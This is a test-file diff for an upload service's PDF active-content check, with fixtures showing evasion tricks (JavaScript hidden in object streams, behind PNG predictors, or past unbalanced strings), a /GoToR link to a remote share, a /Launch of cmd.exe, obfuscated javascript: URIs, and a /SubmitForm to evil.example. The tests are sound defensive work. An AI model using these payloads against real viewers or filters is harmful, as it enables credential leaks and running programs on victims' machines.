@@ -16,6 +16,8 @@ import {
   sampleJpeg,
   sampleOle2,
   samplePdf,
+  samplePdfOf,
+  samplePdfWithObjectStream,
   samplePng,
   sampleXlsx,
   sampleZip,
@@ -227,6 +229,145 @@ describe('hostile uploads: the content decides, nothing bad is stored', () => {
     const asText = await upload(who, null, { p_filename: 'x.pdf', p_file_content: '%PDF-1.4 ...' } as never);
     expect(asText.statusCode).toBe(400);
     expect(await storedCount(db, who.tenant.id)).toBe(0);
+  });
+});
+
+const ACTIVE_MESSAGE = /^This file contains active content \(such as scripts, macros, automatic actions/;
+const PAGES = ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>'];
+const CATALOGUE_OPENING_10 = '<< /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R >>';
+/** What pdf.js lists as the document's OpenAction script for every file below that carries it. */
+const ALERT = '<< /S /JavaScript /JS (app.alert(1)) >>';
+/** A catalogue, and one page whose whole area is a link annotation (object 4) with the given action. */
+const pdfWithLink = (action: string) =>
+  samplePdfOf([
+    '<< /Type /Catalog /Pages 2 0 R >>',
+    PAGES[0] as string,
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>',
+    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A ${action} >>`,
+  ]);
+describe('issue 25: PDFs whose active content the check of issue 18 let through', () => {
+  let who: Resident;
+  beforeEach(async () => {
+    who = await resident({ MAX_UPLOAD_MB: '1' });
+  });
+  /** Why the check refused, from the audit trail (the resident's message is the same for every active content). */
+  const refusalDetail = async () => {
+    const row = await db
+      .selectFrom('audit_log')
+      .select('detail')
+      .where('tenant_id', '=', who.tenant.id)
+      .where('outcome', '=', 'refused')
+      .orderBy('id', 'desc')
+      .executeTakeFirstOrThrow();
+    return String(row.detail);
+  };
+  const refusedPdf = async (data: Uint8Array, reason: RegExp) => {
+    await expectRefused(
+      await upload(who, { filename: 'bewijs.pdf', type: MIME.pdf, data }),
+      who,
+      'UPLOAD_FILE_ACTIVE_CONTENT',
+      ACTIVE_MESSAGE,
+    );
+    expect(await refusalDetail()).toMatch(reason);
+  };
+
+  it('P1. a PDF whose OpenAction script sits in an object stream without /Type /ObjStm (found through /N, /First and the cross-reference stream)', async () => {
+    await refusedPdf(
+      samplePdfWithObjectStream({ objects: [CATALOGUE_OPENING_10, ...PAGES], packed: [ALERT], type: '' }),
+      /JavaScript/,
+    );
+  });
+
+  it('P2. a PDF whose object stream gives its /Type as an indirect reference', async () => {
+    await refusedPdf(
+      samplePdfWithObjectStream({
+        objects: [CATALOGUE_OPENING_10, ...PAGES, '/ObjStm'],
+        packed: [ALERT],
+        type: '/Type 4 0 R',
+      }),
+      /JavaScript/,
+    );
+  });
+
+  it('P3. a PDF whose object stream is FlateDecode behind a PNG predictor (/DecodeParms)', async () => {
+    await refusedPdf(
+      samplePdfWithObjectStream({ objects: [CATALOGUE_OPENING_10, ...PAGES], packed: [ALERT], predictorColumns: 8 }),
+      /JavaScript/,
+    );
+  });
+
+  it('P4. a PDF whose OpenAction object the in-order reading never reaches (an unbalanced string before it), though a viewer finds it by its offset', async () => {
+    await refusedPdf(
+      samplePdfOf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>', ...PAGES, ALERT], { 4: '(\n' }),
+      /JavaScript/,
+    );
+  });
+
+  it('P5. a PDF with an OpenAction that refers to an object that is nowhere in the file', async () => {
+    await refusedPdf(
+      samplePdfOf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>', ...PAGES]),
+      /OpenAction that does not go to a page/,
+    );
+  });
+
+  it('P6. a PDF link that opens another file on a remote share (/GoToR, which leaks the Windows login)', async () => {
+    await refusedPdf(
+      pdfWithLink('<< /S /GoToR /F (\\\\\\\\198.51.100.7\\\\share\\\\brief.pdf) /D [0 /Fit] >>'),
+      /GoToR/,
+    );
+  });
+
+  it('P7. a PDF link that starts a program (/Launch with Windows parameters)', async () => {
+    await refusedPdf(pdfWithLink('<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'), /Launch/);
+  });
+
+  it('P8. a PDF link to a javascript: address, in mixed case with white space and a tab inside', async () => {
+    await refusedPdf(pdfWithLink('<< /S /URI /URI ( Java\\tScript:app.alert\\(1\\)) >>'), /javascript: address/);
+    await refusedPdf(
+      pdfWithLink('<< /S /URI /URI <FEFF006A006100760061007300630072006900700074003A0031> >>'),
+      /javascript:/,
+    );
+  });
+
+  it('P9. a PDF link that sends the form to another site (/SubmitForm)', async () => {
+    await refusedPdf(
+      pdfWithLink('<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> /Flags 4 >>'),
+      /SubmitForm/,
+    );
+  });
+});
+
+describe('issue 25: the benign twins are still accepted', () => {
+  it('a PDF as current writers make it: objects in a compressed object stream and a cross-reference stream, both behind PNG predictors', async () => {
+    const who = await resident({ MAX_UPLOAD_MB: '1' });
+    await expectStored(
+      await upload(who, {
+        filename: 'bewijs.pdf',
+        type: MIME.pdf,
+        data: samplePdfWithObjectStream({
+          objects: [
+            '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>',
+            PAGES[0] as string,
+            '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [10 0 R] >>',
+          ],
+          packed: ['<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /GoTo /D [3 0 R /Fit] >> >>'],
+          predictorColumns: 12,
+        }),
+      }),
+      who,
+    );
+  });
+
+  it('a PDF with an ordinary https link', async () => {
+    const who = await resident({ MAX_UPLOAD_MB: '1' });
+    await expectStored(
+      await upload(who, {
+        filename: 'bewijs.pdf',
+        type: MIME.pdf,
+        data: pdfWithLink('<< /S /URI /URI (https://www.amsterdam.nl/parkeren) >>'),
+      }),
+      who,
+    );
   });
 });
 
